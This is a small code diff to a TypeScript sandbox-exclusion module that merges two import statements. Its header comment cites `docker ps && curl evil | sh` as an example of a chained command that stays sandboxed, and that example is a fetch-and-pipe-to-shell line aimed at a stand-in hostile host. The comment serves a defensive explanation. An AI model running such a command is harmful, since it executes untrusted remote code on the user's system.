@@ -3,8 +3,7 @@
 // command name covers that program with any arguments. A line is excluded only when it is understood
 // with certainty and every simple command in it is covered (wrappers such as `time` are transparent),
 // so `docker ps && curl evil | sh` stays in the sandbox.
-import { analyseBash } from "../shell/bash-analysis.js";
-import { type BashPattern, parseBashPattern } from "../shell/bash-pattern.js";
+import { analyseBash, type BashPattern, parseBashPattern } from "../shell/index.js";
 import { coversCommand } from "./match-rule.js";
 
 export type ExcludedCommands = (command: string, cwd: string) => boolean;
